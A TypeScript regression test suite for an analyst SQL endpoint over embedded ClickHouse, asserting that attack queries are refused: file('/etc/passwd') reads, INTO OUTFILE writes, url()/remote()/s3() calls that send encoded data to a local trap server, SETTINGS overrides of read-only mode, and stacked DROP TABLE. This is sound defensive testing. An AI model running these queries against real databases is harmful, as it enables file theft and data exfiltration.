import { DOMAIN_MODULES } from '../../processor/src/domains/registry.ts';
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:net';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Hono } from 'hono';
import { openAnalystSql, openStore, type AnalystSql, type SqlLimits, type Store } from '../../store/src/index.ts';
import { createHttpApp } from '../../processor/src/adapters/http/http-app.ts';
import { ProcessorMetrics } from '../../processor/src/metrics.ts';
import { tempDir } from '../harness/temp-dir.ts';

// Each attack of issue #13 against a real embedded store behind the real HTTP app. On the old
// code (a prefix regex, `SELECT * FROM (<query>) LIMIT n`, the ingestion session, no limits)
// every one of them ran.

const LIMITS: SqlLimits = { maxExecutionSeconds: 2, maxMemoryMiB: 256, maxResultRows: 10_000, maxResultMiB: 32, maxThreads: 2, maxConcurrent: 2, maxQueryBytes: 65_536 };

let dir: ReturnType<typeof tempDir>;
let store: Store;
let sql: AnalystSql;
const TOKEN = 'sql-safety-test-token';
/** What the UI and the CLI send: the token, a local Host, JSON. */
const AUTHED = { host: '127.0.0.1', authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' };
let app: Hono;
/** Stands in for any address a query might reach: counts every TCP connection made to it. */
let trap: Server;
let trapHits = 0;
let trapPort = 0;

before(async () => {
  dir = tempDir('sql-safety');
  store = await openStore({ database: 'vigia', dataDir: dir.path });
  sql = await openAnalystSql({ database: 'vigia', dataDir: dir.path }, LIMITS);
  app = createHttpApp({
    store: store.client,
    sql,
    metrics: new ProcessorMetrics(),
    uiDir: join(dir.path, 'no-ui'),
    modules: DOMAIN_MODULES,
    health: async () => ({ clickhouse: await store.client.ping().then((p) => ({ ok: p.success })) }),
    // A body limit above sql.maxQueryBytes, so the SQL layer's own length check is what answers.
    access: { token: TOKEN, boundHost: '127.0.0.1', allowedHosts: [], metricsNeedToken: true, maxBodyBytes: 1024 * 1024, tokenHint: 'the test token' },
  });
  trap = createServer((socket) => {
    trapHits++;
    socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok');
  });
  await new Promise<void>((r) => trap.listen(0, '127.0.0.1', r));
  trapPort = (trap.address() as { port: number }).port;
});
after(async () => {
  await sql?.close();
  await store?.close();
  await new Promise((r) => trap?.close(r));
  dir?.remove();
});

interface Answer {
  status: number;
  body: { error?: string; limit?: string; rows?: Record<string, unknown>[]; truncated?: boolean; columns?: { name: string }[] };
  retryAfter: string | null;
}

async function post(query: string): Promise<Answer> {
  const res = await app.request('/api/sql', { method: 'POST', headers: AUTHED, body: JSON.stringify({ query }) });
  return { status: res.status, body: (await res.json()) as Answer['body'], retryAfter: res.headers.get('retry-after') };
}

async function refused(query: string, reason: RegExp): Promise<void> {
  const a = await post(query);
  assert.equal(a.status, 400, `${query}: ${JSON.stringify(a.body)}`);
  assert.match(a.body.error ?? '', reason, query);
}

test('file() cannot read the machine’s files', async () => {
  await refused("SELECT * FROM file('/etc/passwd', 'LineAsString')", /Table functions.*file\(\)/);
  await refused("SELECT count() FROM (SELECT * FROM file('/etc/passwd', 'LineAsString'))", /file\(\)/);
  await refused("DESCRIBE TABLE file('/etc/passwd', 'LineAsString')", /file\(\)/);
  await refused("SELECT file('/etc/hostname')", /file\(\) reads files/);
  await refused("SELECT * FROM filesystem('/etc')", /filesystem\(\)/);
});

test('INTO OUTFILE writes no file, in the `) --` form or plain, with APPEND or not', async () => {
  const target = join(dir.path, 'f.txt');
  await refused(`SELECT 'x') INTO OUTFILE '${target}' --`, /parse/);
  await refused(`SELECT 'x' INTO OUTFILE '${target}'`, /INTO OUTFILE/);
  await refused(`SELECT 'x' INTO OUTFILE '${target}' AND STDOUT`, /INTO OUTFILE/);
  await refused(`SHOW TABLES INTO OUTFILE '${target}'`, /INTO OUTFILE/);
  assert.equal(existsSync(target), false);
  writeFileSync(target, 'before\n');
  await refused(`SELECT 'x' INTO OUTFILE '${target}' APPEND`, /INTO OUTFILE/);
  assert.equal(readFileSync(target, 'utf8'), 'before\n');
});

test('url(), s3() and remote() reach no address, the processor’s own included', async () => {
  const base = `http://127.0.0.1:${trapPort}`;
  await refused(`SELECT * FROM url('${base}/?d=' || base64Encode((SELECT 'secret')), 'LineAsString')`, /url\(\)/);
  await refused(`SELECT * FROM url('${base}/health', 'JSONAsString')`, /url\(\)/);
  await refused(`SELECT 1 FROM runs WHERE run_id IN (SELECT * FROM url('${base}/', 'LineAsString'))`, /url\(\)/);
  await refused(`SELECT * FROM s3('${base}/bucket/x.csv', 'CSV')`, /s3\(\)/);
  await refused(`SELECT * FROM remote('127.0.0.1:${trapPort}', system.one)`, /remote\(\)/);
  await refused(`SELECT * FROM runs AS r JOIN url('${base}/', 'LineAsString') AS u ON 1`, /url\(\)/);
  assert.equal(trapHits, 0);
});

test('hasColumnInTable() and other functions that open connections are refused wherever they stand', async () => {
  const before = trapHits;
  const host = `'127.0.0.1:${trapPort}'`;
  // The native-protocol form (host, user, password, database, table, column) of older ClickHouse
  // versions. ClickHouse 26.7 (chDB 3.4) only has the local form and fails on this one by itself;
  // the check refuses both, whatever the engine behind the API.
  await refused(`SELECT hasColumnInTable(${host}, 'default', '', 'vigia', 'runs', 'run_id')`, /hasColumnInTable\(\) reads files or opens connections/);
  await refused(`SELECT run_id FROM runs WHERE hasColumnInTable(${host}, 'default', '', 'vigia', 'runs', 'run_id') = 1`, /hasColumnInTable\(\)/);
  await refused("SELECT hasColumnInTable('vigia', 'runs', 'run_id')", /hasColumnInTable\(\)/);
  await refused("SELECT dictGetString('d', 'a', toUInt64(1))", /dictGetString\(\) reads files or opens connections/);
  await refused("SELECT catboostEvaluate('/etc/passwd', 1)", /catboostEvaluate\(\)/);
  await refused("SELECT aiGenerate('hello')", /aiGenerate\(\)/);
  assert.equal(trapHits - before, 0);
});

test('a table function is refused outside FROM as well: IN, arguments, lambdas, JOIN, CTE', async () => {
  const before = trapHits;
  const url = `url('http://127.0.0.1:${trapPort}/', 'LineAsString')`;
  // Outside FROM, ClickHouse 26.7 (chDB 3.4) does not know url() or remote() as functions and fails
  // by itself; the check refuses them before any engine sees them.
  await refused(`SELECT 1 FROM runs WHERE run_id IN ${url}`, /url\(\) is a table function/);
  await refused(`SELECT 1 IN remote('127.0.0.1:${trapPort}', system.one)`, /remote\(\) is a table function/);
  await refused(`SELECT toString(${url})`, /url\(\) is a table function/);
  await refused(`SELECT arrayMap(x -> x IN ${url}, ['a'])`, /url\(\) is a table function/);
  await refused(`SELECT * FROM runs WHERE run_id IN (SELECT * FROM ${url})`, /Table functions.*url\(\)/);
  await refused(`SELECT * FROM runs AS r LEFT JOIN ${url} AS u ON r.run_id = u.line`, /Table functions.*url\(\)/);
  await refused(`WITH u AS (SELECT * FROM ${url}) SELECT * FROM u`, /Table functions.*url\(\)/);
  await refused(`WITH ${url} AS u SELECT u`, /url\(\) is a table function/);
  assert.equal(trapHits - before, 0);
  // format() the string function shares the name of a table function and still works.
  const a = await post("SELECT format('{}-{}', 'a', 'b') AS s");
  assert.equal(a.status, 200, JSON.stringify(a.body));
  assert.deepEqual(a.body.rows, [{ s: 'a-b' }]);
});

test('settings in the query are refused, and the session is read-only', async () => {
  await refused('SELECT sleepEachRow(3) FROM system.numbers LIMIT 12 SETTINGS function_sleep_max_microseconds_per_block = 0', /SETTINGS/);
  await refused('SELECT 1 SETTINGS readonly = 0', /SETTINGS/);
  await refused('WITH a AS (SELECT 1 SETTINGS max_threads = 64) SELECT * FROM a', /SETTINGS/);
  await refused('SET readonly = 0', /reading statements.*parsed this one as Set\b/);
  const a = await post("SELECT getSetting('readonly') AS r, getSetting('max_execution_time') AS t");
  assert.equal(a.status, 200);
  assert.deepEqual(a.body.rows, [{ r: 1, t: 2 }]);
});

test('writes and a second statement are refused', async () => {
  await refused('INSERT INTO runs (run_id) VALUES (1)', /InsertQuery/);
  await refused('DROP TABLE runs', /DropQuery/);
  await refused('SELECT 1; DROP TABLE runs', /parse.*Multi-statements/);
  await refused('SELECT 1 FORMAT CSV', /FORMAT/);
  await refused('SHOW TABLES FORMAT CSV', /FORMAT/);
  assert.equal((await post("EXISTS TABLE runs")).body.rows?.[0]?.result, 1);
});

test('the row cap cannot be escaped: 5 M rows come back as 10 000, marked truncated', async () => {
  await refused('SELECT number FROM system.numbers LIMIT 5000000) --', /parse/);
  const a = await post('SELECT number FROM system.numbers LIMIT 5000000');
  assert.equal(a.status, 200);
  assert.equal(a.body.rows?.length, 10_000);
  assert.equal(a.body.truncated, true);
  // At the top level the cap would cut each part of a set operation before they are combined.
  await refused('SELECT number FROM system.numbers LIMIT 30 EXCEPT SELECT number FROM system.numbers LIMIT 5', /inside a subquery/);
  const branch = 'SELECT number FROM system.numbers LIMIT 1000';
  const bytes = await post(`SELECT repeat(toString(number % 10), 10000) AS s FROM (${[1, 2, 3, 4].map(() => branch).join(' UNION ALL ')})`);
  assert.equal(bytes.status, 413, JSON.stringify(bytes.body));
  assert.equal(bytes.body.limit, 'result');
  // chDB hands the rows a failed query had produced to the next query on its connection; the
  // session is cleaned after a failure, so the next answer is its own.
  const next = (await post('SELECT 42 AS x')).body.rows;
  assert.equal(next?.length, 1, 'rows left over from the failed query');
  assert.deepEqual(next[0], { x: 42 });
  const memory = await post("SELECT groupArray(repeat('x', 1000)) FROM (SELECT number FROM system.numbers LIMIT 1000000)");
  assert.equal(memory.status, 413, JSON.stringify(memory.body));
  assert.equal(memory.body.limit, 'memory');
});

test('a long query is stopped at the time limit while /health and ingestion carry on', async () => {
  let sqlAnswered = false;
  const long = post('SELECT count() FROM system.numbers').finally(() => (sqlAnswered = true));
  await new Promise((r) => setTimeout(r, 200));
  const health = await app.request('/health', { headers: AUTHED });
  assert.equal(health.status, 200);
  assert.equal(sqlAnswered, false, '/health answered while the query ran');
  await store.client.insert({ table: 'runs', values: [{ run_id: 'during-sql', domain: 'sensor', kind: 'bench', started_at: Date.now(), params: '{}', code_version: 't', updated_at: Date.now() }], format: 'JSONEachRow' });
  assert.equal(sqlAnswered, false, 'an insert on the ingestion session finished while the query ran');
  const a = await long;
  assert.equal(a.status, 408);
  assert.equal(a.body.limit, 'time');
  assert.match(a.body.error ?? '', /longer than 2 s.*maxExecutionSeconds/);
});

test('a query beyond the concurrency limit gets 429 with a reason', async () => {
  const answers = await Promise.all([post('SELECT sleep(1)'), post('SELECT sleep(1)'), post('SELECT sleep(1)')]);
  const busy = answers.filter((a) => a.status === 429);
  assert.equal(busy.length, 1, JSON.stringify(answers));
  assert.match(busy[0]!.body.error ?? '', /already running.*maxConcurrent/);
  assert.equal(busy[0]!.retryAfter, '1');
  assert.equal(answers.filter((a) => a.status === 200).length, 2);
});

test('bad SQL is a 400 with ClickHouse’s reason, never a 500', async () => {
  await refused('SELEC 1', /parse/);
  await refused('SELECT nope FROM runs', /nope/);
  await refused('SELECT * FROM no_such_table', /no_such_table/);
  await refused('', /empty/);
  await refused('-- only a comment', /parse|empty/i);
  await refused(`SELECT '${'x'.repeat(70_000)}'`, /maxQueryBytes/);
});

test('what analysts, `vigia sql` and the harness send still works', async () => {
  const ok = async (query: string) => {
    const a = await post(query);
    assert.equal(a.status, 200, `${query}: ${JSON.stringify(a.body)}`);
    return a.body;
  };
  assert.ok((await ok('SHOW TABLES')).rows?.some((r) => r.name === 'scores'));
  assert.ok((await ok('DESCRIBE TABLE scores')).rows?.some((r) => r.name === 'event_id'));
  assert.match(String((await ok('SHOW CREATE TABLE scores')).rows?.[0]?.statement), /CREATE TABLE/);
  await ok('EXPLAIN SELECT count() FROM scores FINAL');
  await ok('EXPLAIN header = 1 SELECT 1');
  // 64-bit counts arrive as strings, as the harness expects.
  assert.deepEqual((await ok('-- note\nSELECT count() AS n FROM runs FINAL;')).rows, [{ n: '1' }]);
  await ok("WITH x AS (SELECT 1 AS a) SELECT a, 'semi;colon' AS s FROM x");
  assert.equal((await ok('SELECT * FROM (SELECT number FROM system.numbers LIMIT 30000 EXCEPT SELECT number FROM system.numbers LIMIT 5)')).rows?.[0]?.number, '5');
  await ok("SELECT (SELECT count() FROM sensor_events FINAL) AS events, (SELECT count() FROM dead_letters WHERE domain = 'trip') AS dlq");
  const page = await ok('SELECT number FROM (SELECT number FROM system.numbers LIMIT 50000) ORDER BY number LIMIT 10000 OFFSET 20000');
  assert.equal(page.rows?.length, 10_000);
  assert.equal(page.truncated, false);
  assert.equal(page.rows?.[0]?.number, '20000');
});
